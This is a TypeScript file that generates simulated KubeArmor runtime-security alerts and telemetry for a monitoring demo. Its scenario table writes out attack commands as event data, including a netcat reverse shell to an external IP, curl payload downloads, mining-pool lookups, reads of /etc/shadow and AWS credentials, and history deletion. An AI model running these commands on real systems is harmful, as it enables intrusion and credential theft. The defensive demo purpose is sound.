import type {Feed, FeedSink} from './feed.js';

// The built-in demo feed: realistic KubeArmor events in karmor's `--json` shape, so the monitor runs anywhere.
// Everything is table-driven: clusters and workloads, then scenarios (one row = one kind of event KubeArmor
// really sends), then a small generator that picks rows with a seeded PRNG and fills in identities and times.

/** KubeArmor's throttling defaults (`maxAlertPerSec`, `throttleSec`). */
const maxAlertsPerSec = 10;
const droppingAlertsInterval = 30;

const defaultRate = 20;
const tickMs = 50;
/** After a stall (laptop asleep, debugger) catch up at most this much time instead of flooding the UI. */
const maxCatchUpMs = 1000;
/** Events one tick may make: 400k events/s at 50 ms ticks, more than any machine here ingests. */
const maxPerTick = 20_000;

// ---------------------------------------------------------------------------------------------------------------
// Where events come from

type ClusterSpec = {name: string; nodes: Array<{name: string; ip: string}>};

const clusters: ClusterSpec[] = [
	{
		name: 'prod-eu',
		nodes: [
			{name: 'ip-10-0-12-34.eu-west-1.compute.internal', ip: '10.0.12.34'},
			{name: 'ip-10-0-47-201.eu-west-1.compute.internal', ip: '10.0.47.201'},
			{name: 'ip-10-0-88-16.eu-west-1.compute.internal', ip: '10.0.88.16'},
		],
	},
	{
		name: 'staging',
		nodes: [
			{name: 'gke-staging-default-pool-9144db50-81gb', ip: '10.128.0.41'},
			{name: 'gke-staging-default-pool-9144db50-k2x7', ip: '10.128.0.42'},
		],
	},
	{
		name: 'dev-kind',
		nodes: [
			{name: 'kind-worker', ip: '172.18.0.3'},
			{name: 'kind-worker2', ip: '172.18.0.4'},
		],
	},
];

type WorkloadSpec = {
	cluster: string;
	namespace: string;
	/** Deployment name and `app=` label. */
	app: string;
	container: string;
	image: string;
	extraLabels?: string;
	replicas: number;
	uid: number;
	/** The container's main process and its command line: what its own telemetry shows. */
	main: string;
	cmd: string;
	/** Files the main process reads, peers it talks to, and the liveness probe the kubelet runs in it. */
	files: string[];
	peers: string[];
	probe: string;
};

const workloads: WorkloadSpec[] = [
	{
		cluster: 'prod-eu',
		namespace: 'wordpress-mysql',
		app: 'wordpress',
		container: 'wordpress',
		image: 'docker.io/library/wordpress:6.4-apache',
		replicas: 2,
		uid: 33,
		main: '/usr/sbin/apache2',
		cmd: '/usr/sbin/apache2 -DFOREGROUND',
		files: ['/var/www/html/wp-login.php', '/var/www/html/wp-includes/version.php', '/etc/apache2/apache2.conf'],
		peers: ['10.100.42.7:3306'],
		probe: 'curl -fs http://localhost/wp-login.php',
	},
	{
		cluster: 'prod-eu',
		namespace: 'wordpress-mysql',
		app: 'mysql',
		container: 'mysql',
		image: 'docker.io/library/mysql:8.0',
		replicas: 1,
		uid: 999,
		main: '/usr/sbin/mysqld',
		cmd: '/usr/sbin/mysqld --datadir=/var/lib/mysql',
		files: ['/var/lib/mysql/ibdata1', '/var/lib/mysql/binlog.000042', '/etc/mysql/my.cnf'],
		peers: ['10.100.0.10:53'],
		probe: 'mysqladmin ping -h 127.0.0.1',
	},
	{
		cluster: 'prod-eu',
		namespace: 'shop',
		app: 'nginx',
		container: 'nginx',
		image: 'docker.io/library/nginx:1.25',
		extraLabels: 'tier=frontend',
		replicas: 3,
		uid: 101,
		main: '/usr/sbin/nginx',
		cmd: 'nginx: worker process',
		files: ['/usr/share/nginx/html/index.html', '/etc/nginx/conf.d/default.conf', '/var/cache/nginx/client_temp'],
		peers: ['10.100.17.3:8000', '10.100.0.10:53'],
		probe: 'curl -fs http://localhost/healthz',
	},
	{
		cluster: 'prod-eu',
		namespace: 'shop',
		app: 'checkout',
		container: 'checkout',
		image: 'ghcr.io/acme/checkout:2.14.1',
		extraLabels: 'tier=backend',
		replicas: 2,
		uid: 1000,
		main: '/usr/local/bin/python3.11',
		cmd: '/usr/local/bin/python3.11 -m gunicorn checkout.app:api -b 0.0.0.0:8000',
		files: ['/app/checkout/settings.py', '/etc/ssl/certs/ca-certificates.crt', '/tmp/prometheus_multiproc/counter_1.db'],
		peers: ['10.100.61.9:5432', '10.100.8.14:6379'],
		probe: 'python3 -c "import urllib.request;urllib.request.urlopen(\'http://localhost:8000/ready\')"',
	},
	{
		cluster: 'staging',
		namespace: 'vault',
		app: 'vault',
		container: 'vault',
		image: 'docker.io/hashicorp/vault:1.15',
		replicas: 1,
		uid: 100,
		main: '/bin/vault',
		cmd: '/bin/vault server -config=/vault/config',
		files: ['/vault/config/vault.hcl', '/vault/data/core/_keyring', '/vault/tls/tls.key'],
		peers: ['10.52.3.1:443'],
		probe: 'vault status -tls-skip-verify',
	},
	{
		cluster: 'staging',
		namespace: 'payments',
		app: 'payments-api',
		container: 'api',
		image: 'ghcr.io/acme/payments-api:0.9.3',
		replicas: 2,
		uid: 1000,
		main: '/usr/local/bin/node',
		cmd: 'node dist/server.js',
		files: ['/srv/app/dist/server.js', '/etc/ssl/private/payments.key', '/srv/app/node_modules/pg/lib/client.js'],
		peers: ['10.52.9.20:5432', '34.120.44.10:443'],
		probe: 'wget -qO- http://localhost:3000/health',
	},
	{
		cluster: 'staging',
		namespace: 'ci',
		app: 'build-runner',
		container: 'runner',
		image: 'docker.io/gitlab/gitlab-runner:v16.6.0',
		replicas: 1,
		uid: 0,
		main: '/usr/bin/gitlab-runner',
		cmd: '/usr/bin/gitlab-runner run --working-directory /home/gitlab-runner',
		files: ['/etc/gitlab-runner/config.toml', '/builds/acme/shop/package.json', '/cache/npm/_cacache/index-v5'],
		peers: ['140.82.112.3:443', '104.16.24.35:443'],
		probe: 'gitlab-runner verify',
	},
	{
		cluster: 'dev-kind',
		namespace: 'default',
		app: 'dvwa-web',
		container: 'dvwa',
		image: 'docker.io/cytopia/dvwa:php-8.1',
		extraLabels: 'tier=frontend',
		replicas: 1,
		uid: 33,
		main: '/usr/sbin/apache2',
		cmd: '/usr/sbin/apache2 -DFOREGROUND',
		files: ['/var/www/html/vulnerabilities/exec/index.php', '/var/www/html/config/config.inc.php', '/tmp/sess_9f2c1'],
		peers: ['10.96.118.2:3306'],
		probe: 'curl -fs http://localhost/login.php',
	},
	{
		cluster: 'dev-kind',
		namespace: 'multiubuntu',
		app: 'ubuntu-1',
		container: 'ubuntu-1-container',
		image: 'docker.io/kubearmor/ubuntu-w-utils:0.1',
		extraLabels: 'group=group-1',
		replicas: 1,
		uid: 0,
		main: '/bin/bash',
		cmd: '/bin/bash -c sleep infinity',
		files: ['/etc/hostname', '/root/.bashrc', '/etc/ld.so.cache'],
		peers: ['10.96.0.10:53'],
		probe: 'cat /tmp/healthy',
	},
];

/** Host users: UserName is only sent on host events (KubeArmor looks it up from UID). */
const hostUsers: Record<string, number> = {root: 0, ubuntu: 1000, sshd: 74};

/** Values a scenario can draw with `{name}`; one value per name per event, so Source and Resource agree. */
const choices: Record<string, string[]> = {
	extIp: ['45.33.32.156', '185.199.108.133', '91.189.91.39', '104.192.3.74', '203.0.113.77', '198.51.100.23'],
	extPort: ['4444', '8080', '443', '1337', '9001'],
	payload: ['x.sh', 'install.sh', 'kworker', 'xmrig.tar.gz'],
	pool: ['pool.minexmr.com', 'xmr.2miners.com', 'gulf.moneroocean.stream'],
	tool: ['nmap', 'netcat-traditional', 'socat', 'gcc', 'tcpdump'],
	ibfile: ['ib_logfile0', 'ib_logfile1', 'ibdata1', 'mysql.ibd', 'binlog.000042'],
	lanIp: ['192.168.29.42', '10.0.3.17', '172.16.4.9'],
	ephPort: ['53262', '49822', '60114', '41007'],
	fd: ['3', '5', '7', '12', '23'],
	shellCmd: ['id', 'uname -a', 'cat /etc/passwd', 'whoami', 'ls -la /'],
	scanTool: ['/bin/netstat', '/sbin/ifconfig', '/usr/sbin/arp'],
	plantFile: ['/usr/lib/libc.so.6.bak', '/sbin/raw', '/usr/bin/.hidden', '/etc/ld.so.preload'],
	page: ['index.html', '50x.html', 'assets/app.js'],
	suid: ['/usr/bin/passwd', '/usr/bin/chsh', '/bin/su', '/usr/bin/newgrp', '/bin/mount'],
	qtype: ['A', 'AAAA'],
	domain: ['google.com', 'api.github.com', 'registry.npmjs.org', 'pypi.org'],
	hostLib: ['/lib/x86_64-linux-gnu/libdl.so.2', '/usr/bin/containerd', '/etc/containerd/config.toml'],
	kubeletFile: ['/var/lib/kubelet/config.yaml', '/etc/kubernetes/kubelet.conf'],
	sysPath: ['2-4.1:1.0', '1-1:1.0', '3-2:1.0', '1-3.2:1.0'],
};

// ---------------------------------------------------------------------------------------------------------------
// What happens: one row per kind of event. Strings may use {name} from `choices`, the workload
// ({ns} {app} {main} {cmd} {file} {peerIp} {peerPort} {probe}) or the node ({nodeIp}).

type Scenario = {
	/** Relative frequency. */
	weight: number;
	type: string;
	operation: string;
	policy?: string;
	/** Omitted on DefaultPosture hits and logs, as KubeArmor does. */
	severity?: number;
	tags?: string;
	message?: string;
	enforcer?: string;
	action?: string;
	/** Default: "Permission denied" for Block, "Passed" otherwise. */
	result?: string;
	parent?: string;
	process?: string;
	source?: string;
	resource?: string;
	data?: string;
	/** Container scenarios: the apps it happens in (default: any). */
	apps?: string[];
	/** Host scenarios: who runs it. */
	user?: string;
	uid?: number;
	/** An interactive session: sets TTY and Cwd. */
	tty?: boolean;
};

const nistFim = 'NIST,NIST_800-53_AU-2,NIST_800-53_SI-4,MITRE,MITRE_T1036_masquerading,MITRE_T1565_data_manipulation';
const nistPkg = 'NIST,NIST_800-53_CM-7(4),SI-4,process,NIST_800-53_SI-4';
const shim = '/usr/bin/containerd-shim-runc-v2';

const scenarios: Scenario[] = [
	// Container alerts (MatchedPolicy).
	{
		weight: 6, type: 'MatchedPolicy', operation: 'Network', enforcer: 'eBPF Monitor', action: 'Audit', tty: true,
		policy: 'ksp-audit-shell-egress', severity: 6, message: 'Outbound connection from an interactive shell',
		tags: 'MITRE,MITRE_T1071_application_layer_protocol,MITRE_TA0011_command_and_control',
		parent: '/bin/bash', process: '/usr/bin/curl', source: '/usr/bin/curl -s http://{extIp}:{extPort}/{payload}',
		resource: 'sa_family=AF_INET sin_port={extPort} sin_addr={extIp}', data: 'syscall=SYS_CONNECT fd={fd}',
	},
	{
		weight: 3, type: 'MatchedPolicy', operation: 'Network', enforcer: 'BPFLSM', action: 'Block',
		policy: 'ksp-block-mining-pools', severity: 9, message: 'DNS lookup of a crypto-mining pool blocked',
		tags: 'MITRE,MITRE_T1496_resource_hijacking',
		parent: '/bin/bash', process: '/usr/bin/wget', source: '/usr/bin/wget {pool}',
		resource: '{pool}', data: 'lsm=SOCKET_SENDMSG domain={pool}.{ns}.svc.cluster.local',
	},
	{
		weight: 4, type: 'MatchedPolicy', operation: 'File', enforcer: 'AppArmor', action: 'Block', tty: true,
		policy: 'ksp-block-shadow-read', severity: 8, message: 'Read of /etc/shadow blocked',
		tags: 'NIST,NIST_800-53_AC-3,MITRE,MITRE_T1003.008_etc_passwd_and_etc_shadow',
		parent: '/bin/bash', process: '/bin/cat', source: '/bin/cat /etc/shadow',
		resource: '/etc/shadow', data: 'syscall=SYS_OPENAT fd=-100 flags=O_RDONLY',
	},
	{
		weight: 4, type: 'MatchedPolicy', operation: 'Process', enforcer: 'AppArmor', action: 'Block', tty: true,
		policy: 'harden-{app}-pkg-mngr-exec', severity: 5,
		message: 'Alert! Execution of package management process inside container is denied',
		tags: nistPkg,
		parent: '/bin/bash', process: '/usr/bin/apt', source: '/bin/bash',
		resource: '/usr/bin/apt install -y {tool}', data: 'syscall=SYS_EXECVE',
	},
	{
		weight: 3, type: 'MatchedPolicy', operation: 'File', enforcer: 'eBPF Monitor', action: 'Allow',
		apps: ['mysql'],
		policy: 'ksp-mysql-allow-datadir', severity: 2, message: 'mysqld accessed its data directory',
		parent: shim, process: '/usr/sbin/mysqld', source: '{cmd}',
		resource: '/var/lib/mysql/{ibfile}', data: 'syscall=SYS_OPENAT fd=-100 flags=O_RDWR|O_CLOEXEC',
	},
	{
		weight: 2, type: 'MatchedPolicy', operation: 'File', enforcer: 'AppArmor', action: 'Block', apps: ['mysql'],
		tty: true,
		policy: 'ksp-block-mysql-dir', severity: 1,
		tags: 'CIS,CIS_Linux',
		parent: '/bin/bash', process: '/bin/cat', source: '/bin/cat {ibfile}',
		resource: '/var/lib/mysql/{ibfile}', data: 'syscall=SYS_OPEN flags=O_RDONLY',
	},
	{
		weight: 2, type: 'MatchedPolicy', operation: 'File', enforcer: 'eBPF Monitor', action: 'Audit (Allow)',
		apps: ['nginx'],
		policy: 'ksp-nginx-allow-webroot', severity: 4,
		message: 'Recorded by an allow-list policy in audit mode',
		parent: shim, process: '/usr/sbin/nginx', source: 'nginx: worker process',
		resource: '/usr/share/nginx/{page}', data: 'syscall=SYS_OPENAT fd=-100 flags=O_RDONLY|O_NONBLOCK',
	},
	{
		weight: 2, type: 'MatchedPolicy', operation: 'Process', enforcer: 'eBPF Monitor', action: 'Audit (Block)',
		policy: 'ksp-dry-run-block-netcat', severity: 7, message: 'Reverse shell attempt (policy in audit mode)',
		tags: 'MITRE,MITRE_T1059_command_and_scripting_interpreter',
		parent: '/bin/sh', process: '/bin/nc', source: '/bin/sh',
		resource: '/bin/nc -e /bin/sh {extIp} {extPort}', data: 'syscall=SYS_EXECVE',
	},
	{
		weight: 3, type: 'MatchedPolicy', operation: 'Process', enforcer: 'AppArmor', action: 'Block',
		apps: ['nginx'], tty: true,
		policy: 'DefaultPosture',
		parent: '/usr/bin/bash', process: '/usr/bin/ls', source: '/usr/bin/bash',
		resource: '/usr/bin/ls', data: 'syscall=SYS_EXECVE',
	},
	{
		weight: 3, type: 'MatchedPolicy', operation: 'File', enforcer: 'eBPF Monitor', action: 'Audit',
		apps: ['nginx'],
		policy: 'audit-etc-nginx-access', severity: 1,
		parent: '/usr/sbin/nginx', process: '/usr/sbin/nginx', source: '/usr/sbin/nginx -s reload',
		resource: '/etc/nginx/conf.d/default.conf', data: 'syscall=SYS_OPENAT fd=-100 flags=O_RDONLY',
	},
	{
		weight: 3, type: 'MatchedPolicy', operation: 'Process', enforcer: 'BPFLSM', action: 'Block',
		apps: ['checkout'],
		policy: 'ksp-checkout-block-shell-from-python', severity: 9, message: 'Web process spawned a shell',
		tags: 'MITRE,MITRE_T1059.006_python,MITRE_T1190_exploit_public_facing_application',
		parent: '/usr/local/bin/python3.11', process: '/bin/sh', source: '{cmd}',
		resource: '/bin/sh -c {shellCmd}', data: 'lsm=SECURITY_BPRM_CHECK',
	},
	{
		weight: 2, type: 'MatchedPolicy', operation: 'File', enforcer: 'BPFLSM', action: 'Block',
		apps: ['checkout', 'payments-api', 'build-runner'],
		policy: 'ksp-block-cloud-credentials', severity: 10, message: 'Read of cloud credentials blocked',
		tags: 'MITRE,MITRE_T1552_unsecured_credentials',
		parent: '/usr/local/bin/python3.11', process: '/usr/local/bin/python3.11', source: 'python3 -u /tmp/agent.py',
		resource: '/root/.aws/credentials', data: 'lsm=FILE_OPEN',
	},
	{
		weight: 4, type: 'MatchedPolicy', operation: 'Process', enforcer: 'eBPF Monitor', action: 'Audit', tty: true,
		policy: 'ksp-audit-kubectl-exec', severity: 3, message: 'Interactive shell opened with kubectl exec',
		tags: 'MITRE,MITRE_T1609_container_administration_command',
		parent: '/usr/bin/runc', process: '/bin/bash', source: '/usr/bin/runc',
		resource: '/bin/bash', data: 'syscall=SYS_EXECVE',
	},
	{
		weight: 3, type: 'MatchedPolicy', operation: 'File', enforcer: 'AppArmor', action: 'Block', tty: true,
		policy: 'DefaultPosture',
		parent: '/bin/bash', process: '/bin/ls', source: '/bin/ls /run/secrets/kubernetes.io/serviceaccount',
		resource: '/run/secrets/kubernetes.io/serviceaccount',
		data: 'syscall=SYS_OPENAT fd=-100 flags=O_RDONLY|O_NONBLOCK|O_DIRECTORY|O_CLOEXEC',
	},
	{
		weight: 2, type: 'MatchedPolicy', operation: 'File', enforcer: 'BPFLSM', action: 'Block', tty: true,
		policy: 'DefaultPosture',
		parent: '/usr/bin/bash', process: '/usr/bin/rm', source: '/usr/bin/rm /root/.bash_history',
		resource: '/root/.bash_history', data: 'lsm=PATH_UNLINK',
	},
	{
		weight: 3, type: 'MatchedPolicy', operation: 'File', enforcer: 'AppArmor', action: 'Block',
		policy: 'harden-{app}-file-integrity-monitoring', severity: 1,
		message: 'Detected and prevented compromise to File integrity',
		tags: nistFim,
		parent: '/bin/bash', process: '/usr/bin/touch', source: '/usr/bin/touch {plantFile}',
		resource: '{plantFile}', data: 'syscall=SYS_OPENAT fd=-100 flags=O_WRONLY|O_CREAT|O_NOCTTY|O_NONBLOCK',
	},
	{
		weight: 2, type: 'MatchedPolicy', operation: 'Capabilities', enforcer: 'AppArmor', action: 'Block',
		result: 'Operation not permitted', apps: ['ubuntu-1', 'dvwa-web', 'build-runner'], tty: true,
		policy: 'ksp-block-cap-net-raw', severity: 4,
		tags: 'MITRE,MITRE_T1040_network_sniffing',
		parent: '/bin/bash', process: '/usr/sbin/tcpdump', source: '/usr/sbin/tcpdump -i eth0',
		resource: 'CAP_NET_RAW', data: 'syscall=SYS_SOCKET',
	},
	{
		weight: 2, type: 'MatchedPolicy', operation: 'Capabilities', enforcer: 'eBPF Monitor', action: 'Audit',
		policy: 'ksp-audit-cap-sys-admin', severity: 7, message: 'CAP_SYS_ADMIN used: possible container escape',
		tags: 'MITRE,MITRE_T1611_escape_to_host',
		parent: '/bin/bash', process: '/bin/mount', source: '/bin/mount -t proc proc /mnt',
		resource: 'CAP_SYS_ADMIN', data: 'syscall=SYS_MOUNT',
	},
	{
		weight: 2, type: 'MatchedPolicy', operation: 'Syscall', enforcer: 'eBPF Monitor', action: 'Audit', tty: true,
		policy: 'ksp-audit-ptrace', severity: 8, message: 'Process attached to another with ptrace',
		tags: 'MITRE,MITRE_T1055_process_injection',
		parent: '/bin/bash', process: '/usr/bin/gdb', source: '/usr/bin/gdb -p 1',
		resource: '/proc/1', data: 'syscall=SYS_PTRACE request=PTRACE_ATTACH pid=1',
	},
	{
		weight: 2, type: 'MatchedPolicy', operation: 'File', enforcer: 'eBPF Monitor', action: 'Audit',
		policy: 'ksp-audit-suid-discovery', severity: 2,
		tags: 'MITRE,MITRE_T1083_file_and_directory_discovery',
		parent: '/bin/bash', process: '/usr/bin/find', source: '/usr/bin/find / -perm -4000 -type f',
		resource: '{suid}', data: 'syscall=SYS_NEWFSTATAT fd=-100 flags=AT_SYMLINK_NOFOLLOW',
	},
	{
		weight: 2, type: 'MatchedPolicy', operation: 'Process', enforcer: 'AppArmor', action: 'Block',
		apps: ['dvwa-web'], tty: true,
		policy: 'harden-dvwa-web-network-service-scanning', severity: 5, message: 'Network service has been scanned!',
		tags: 'MITRE,FGT1046,CIS',
		parent: '/bin/bash', process: '{scanTool}', source: '/bin/bash',
		resource: '{scanTool}', data: 'syscall=SYS_EXECVE',
	},
	{
		weight: 2, type: 'MatchedPolicy', operation: 'Network', enforcer: 'eBPF Monitor', action: 'Audit',
		apps: ['vault'],
		policy: 'ksp-vault-network', severity: 8,
		parent: shim, process: '/bin/vault', source: '/bin/vault status -tls-skip-verify',
		resource: 'domain=AF_UNIX type=SOCK_STREAM|SOCK_NONBLOCK|SOCK_CLOEXEC protocol=0', data: 'syscall=SYS_SOCKET',
	},
	{
		weight: 2, type: 'MatchedPolicy', operation: 'File', enforcer: 'AppArmor', action: 'Block',
		apps: ['wordpress'], tty: true,
		policy: 'ksp-wordpress-block-config', severity: 10,
		message: 'wp-config.php (database password) read by a shell',
		tags: 'MITRE,MITRE_T1552_unsecured_credentials',
		parent: '/bin/bash', process: '/bin/cat', source: '/bin/cat wp-config.php',
		resource: '/var/www/html/wp-config.php', data: 'syscall=SYS_OPENAT fd=-100 flags=O_RDONLY',
	},
	{
		weight: 2, type: 'MatchedPolicy', operation: 'Network', enforcer: 'eBPF Monitor', action: 'Audit',
		apps: ['build-runner'],
		policy: 'ksp-ci-audit-docker-socket', severity: 6, message: 'Docker socket used from a CI job',
		tags: 'MITRE,MITRE_T1610_deploy_container',
		parent: '/bin/sh', process: '/usr/bin/docker', source: '/usr/bin/docker build -t registry.acme.io/shop:ci .',
		resource: 'sa_family=AF_UNIX sun_path=/var/run/docker.sock', data: 'syscall=SYS_CONNECT fd={fd}',
	},
	{
		weight: 2, type: 'MatchedPolicy', operation: 'File', enforcer: 'eBPF Monitor', action: 'Allow',
		apps: ['payments-api'],
		policy: 'ksp-payments-allow-tls-key', severity: 3,
		parent: shim, process: '/usr/local/bin/node', source: 'node dist/server.js',
		resource: '/etc/ssl/private/payments.key', data: 'syscall=SYS_OPENAT fd=-100 flags=O_RDONLY|O_CLOEXEC',
	},

	// Host alerts (MatchedHostPolicy, MatchedNetworkPolicy): no namespace or pod; UserName set.
	{
		weight: 2, type: 'MatchedHostPolicy', operation: 'Process', enforcer: 'BPFLSM', action: 'Block', user: 'root',
		tty: true,
		policy: 'hsp-block-pkg-mgmt-tools', severity: 10, message: 'apt was attempted to be executed',
		tags: nistPkg,
		parent: '/usr/bin/bash', process: '/usr/bin/apt-get', source: '/usr/bin/bash',
		resource: '/usr/bin/apt-get install {tool}', data: 'lsm=SECURITY_BPRM_CHECK',
	},
	{
		weight: 2, type: 'MatchedHostPolicy', operation: 'Syscall', enforcer: 'BPFLSM', action: 'Block',
		result: 'Operation not permitted', user: 'sshd',
		policy: 'DefaultPosture',
		parent: '/usr/sbin/sshd', process: '/usr/sbin/sshd', source: '/usr/sbin/sshd',
		data: 'syscall=SYS_SETUID userid=0',
	},
	{
		weight: 2, type: 'MatchedHostPolicy', operation: 'Process', enforcer: 'eBPF Monitor', action: 'Audit',
		user: 'ubuntu', tty: true,
		policy: 'discovery-process-discovery', severity: 5, message: 'Someone accessed running process',
		tags: 'MITRE,Discovery',
		parent: '/usr/bin/bash', process: '/usr/bin/ps', source: '/usr/bin/bash',
		resource: '/usr/bin/ps aux', data: 'syscall=SYS_EXECVE',
	},
	{
		weight: 1, type: 'MatchedHostPolicy', operation: 'File', enforcer: 'SELinux', action: 'Block', user: 'ubuntu',
		tty: true,
		policy: 'hsp-block-sudoers-write', severity: 6,
		tags: 'MITRE,MITRE_T1548.003_sudo_and_sudo_caching',
		parent: '/usr/bin/bash', process: '/usr/bin/vi', source: '/usr/bin/vi /etc/sudoers',
		resource: '/etc/sudoers', data: 'syscall=SYS_OPENAT fd=-100 flags=O_WRONLY|O_TRUNC',
	},
	{
		weight: 1, type: 'MatchedHostPolicy', operation: 'File', enforcer: 'AppArmor', action: 'Block', user: 'root',
		tty: true,
		policy: 'hsp-block-kubelet-config-write', severity: 8,
		tags: 'NIST,NIST_800-53_CM-5,MITRE,MITRE_T1222_file_permissions_modification',
		parent: '/usr/bin/bash', process: '/usr/bin/sed',
		source: '/usr/bin/sed -i s/authorization-mode/x/ {kubeletFile}',
		resource: '{kubeletFile}', data: 'syscall=SYS_OPENAT fd=-100 flags=O_RDWR',
	},
	{
		weight: 2, type: 'MatchedNetworkPolicy', operation: 'NetworkFirewall', enforcer: 'NetworkPolicyEnforcer',
		action: 'Audit', user: 'root',
		policy: 'nsp-ingress-audit-ssh', severity: 5,
		resource: 'INGRESS',
		data: 'SourceIP={lanIp} SourcePort={ephPort} DestinationIP={nodeIp} DestinationPort=22 Protocol=TCP',
	},
	{
		weight: 1, type: 'MatchedNetworkPolicy', operation: 'NetworkFirewall', enforcer: 'NetworkPolicyEnforcer',
		action: 'Block', user: 'root',
		policy: 'nsp-egress-block-smtp', severity: 6,
		resource: 'EGRESS',
		data: 'SourceIP={nodeIp} SourcePort={ephPort} DestinationIP={extIp} DestinationPort=25 Protocol=TCP',
	},
	// USB devices (host): the USBDeviceHandler reports plug-in as Block/Audit/Allow and unplug as Remove.
	{
		weight: 0.3, type: 'MatchedHostPolicy', operation: 'Device', enforcer: 'USBDeviceHandler', action: 'Block',
		user: 'root',
		policy: 'hsp-usb-block-mass-storage', severity: 7,
		resource: 'USB MASS-STORAGE',
		data: 'Class=8 SubClass=6 Protocol=80 Level=2 SysPath=/sys/bus/usb/devices/{sysPath}',
	},
	{
		weight: 0.3, type: 'MatchedHostPolicy', operation: 'Device', enforcer: 'USBDeviceHandler', action: 'Audit',
		user: 'root',
		policy: 'hsp-usb-audit-all', severity: 3,
		resource: 'USB WIRELESS-CONTROLLER',
		data: 'Class=224 SubClass=1 Protocol=1 Level=1 SysPath=/sys/bus/usb/devices/{sysPath}',
	},
	{
		weight: 0.3, type: 'MatchedHostPolicy', operation: 'Device', enforcer: 'USBDeviceHandler', action: 'Allow',
		user: 'root',
		policy: 'hsp-usb-allow-hid', severity: 1,
		resource: 'USB HID', data: 'Class=3 SubClass=1 Protocol=1 Level=1 SysPath=/sys/bus/usb/devices/{sysPath}',
	},
	{
		// KubeArmor's USB handler reports an unplug with Result "Removed".
		weight: 0.3, type: 'MatchedHostPolicy', operation: 'Device', enforcer: 'USBDeviceHandler', action: 'Remove',
		result: 'Removed', user: 'root',
		policy: 'hsp-usb-audit-all', severity: 3,
		resource: 'USB MASS-STORAGE',
		data: 'Class=8 SubClass=6 Protocol=80 Level=2 SysPath=/sys/bus/usb/devices/{sysPath}',
	},

	// Container telemetry (ContainerLog): no policy, severity, action or enforcer.
	{
		weight: 10, type: 'ContainerLog', operation: 'File',
		parent: shim, process: '{main}', source: '{cmd}',
		resource: '{file}', data: 'syscall=SYS_OPENAT fd=-100 flags=O_RDONLY|O_CLOEXEC',
	},
	{
		weight: 7, type: 'ContainerLog', operation: 'Network',
		parent: shim, process: '{main}', source: '{cmd}',
		resource: 'sa_family=AF_INET sin_port={peerPort} sin_addr={peerIp}', data: 'syscall=SYS_CONNECT fd={fd}',
	},
	{
		weight: 3, type: 'ContainerLog', operation: 'Network',
		parent: '/usr/bin/bash', process: '/usr/bin/curl', source: '/usr/bin/curl {domain}',
		resource: 'sa_family=AF_INET sin_port=53',
		data: 'kfunc=UDP_SENDMSG,domain={domain}.{ns}.svc.cluster.local,daddr=10.96.0.10,qtype={qtype}',
	},
	{
		weight: 6, type: 'ContainerLog', operation: 'Process',
		parent: '/usr/bin/runc', process: '/bin/sh', source: '/usr/bin/runc',
		resource: '/bin/sh -c {probe}', data: 'syscall=SYS_EXECVE',
	},
	{
		weight: 2, type: 'ContainerLog', operation: 'Process', tty: true,
		parent: '/usr/bin/runc', process: '/bin/bash', source: '/usr/bin/runc',
		resource: '/bin/bash', data: 'syscall=SYS_EXECVE',
	},

	// Host telemetry (HostLog).
	{
		weight: 4, type: 'HostLog', operation: 'File', user: 'root',
		parent: '/usr/bin/containerd-shim', process: '/usr/bin/containerd',
		source: '/usr/bin/containerd --address /run/containerd/containerd.sock publish --topic /tasks/exit --namespace k8s.io',
		resource: '{hostLib}', data: 'syscall=SYS_OPENAT fd=-100 flags=O_RDONLY|O_CLOEXEC',
	},
	{
		weight: 2, type: 'HostLog', operation: 'Network', user: 'root',
		parent: '/usr/lib/systemd/systemd', process: '/usr/bin/kubelet',
		source: '/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml',
		resource: 'domain=AF_UNIX type=SOCK_STREAM|SOCK_NONBLOCK|SOCK_CLOEXEC protocol=0', data: 'syscall=SYS_SOCKET',
	},
	{
		weight: 2, type: 'HostLog', operation: 'Process', user: 'ubuntu',
		parent: '/bin/bash', process: '/usr/bin/pgrep', source: '/bin/bash',
		resource: '/usr/bin/pgrep kubearmor', data: 'syscall=SYS_EXECVE',
	},
];

const hostTypes = new Set(['MatchedHostPolicy', 'MatchedNetworkPolicy', 'HostLog']);
const logTypes = new Set(['ContainerLog', 'HostLog']);

/** KubeArmor only throttles audit alerts from its eBPF monitor (feeder.go): those are what a storm is made of. */
function throttleable(scenario: Scenario): boolean {
	return scenario.type === 'MatchedPolicy' && (scenario.action ?? '').includes('Audit') && scenario.enforcer === 'eBPF Monitor';
}

/**
 * Bursts alternate between the two kinds, so about every other burst (about once a minute) trips
 * KubeArmor's per-container alert limit and produces an AlertThreshold event.
 */
const burstKinds: Array<{name: string; pick: (scenario: Scenario) => boolean}> = [
	// Someone loops over the filesystem from a shell: audit alerts until KubeArmor throttles the container.
	{name: 'alert storm', pick: throttleable},
	// A batch job forks hundreds of processes: telemetry only, no throttling.
	{name: 'busy job', pick: scenario => scenario.type === 'ContainerLog'},
];

// ---------------------------------------------------------------------------------------------------------------
// Generator

/** mulberry32: a tiny, fast, seedable PRNG; good enough for demo data and stable across platforms. */
export function mulberry32(seed: number): () => number {
	let state = seed >>> 0;
	return () => {
		state = (state + 0x6d2b79f5) >>> 0;
		let t = state;
		t = Math.imul(t ^ (t >>> 15), t | 1);
		t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
		return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
	};
}

type Pod = {
	workload: WorkloadSpec;
	node: {name: string; ip: string};
	name: string;
	containerId: string;
	image: string;
	labels: string;
	/** Host PIDs of this pod's processes start around here. */
	hostPidBase: number;
};

type Node = {cluster: string; name: string; ip: string};

type Burst = {
	pod: Pod;
	/** What the burst is made of: the burst kind's scenarios that fit the pod's app. */
	scenarios: Scenario[];
	until: number;
	multiplier: number;
	/** Throttleable alerts from the pod so far in this burst. */
	alerts: number;
};

/** Kubernetes' name-suffix alphabet (no vowels, no confusable digits). */
const podAlphabet = [...'bcdfghjklmnpqrstvwxz2456789'];

/**
 * Produces one event at a time for a given time. Bursts and throttling follow the times it is given, so
 * the same generator serves the live feed (wall clock) and `demoEvents` (simulated time).
 */
export class DemoGenerator {
	private readonly random: () => number;
	private readonly pods: Pod[] = [];
	private readonly nodes: Node[] = [];
	private readonly containerScenarios: Scenario[];
	private readonly logScenarios: Scenario[];
	private readonly podsByScenario = new Map<Scenario, Pod[]>();
	private nextBurstAt: number | undefined;
	private burst: Burst | undefined;
	private burstCount: number;
	/** Pod name -> time until which KubeArmor drops its throttleable alerts. */
	private readonly throttledUntil = new Map<string, number>();

	constructor(seed: number) {
		this.random = mulberry32(seed);
		for (const cluster of clusters) {
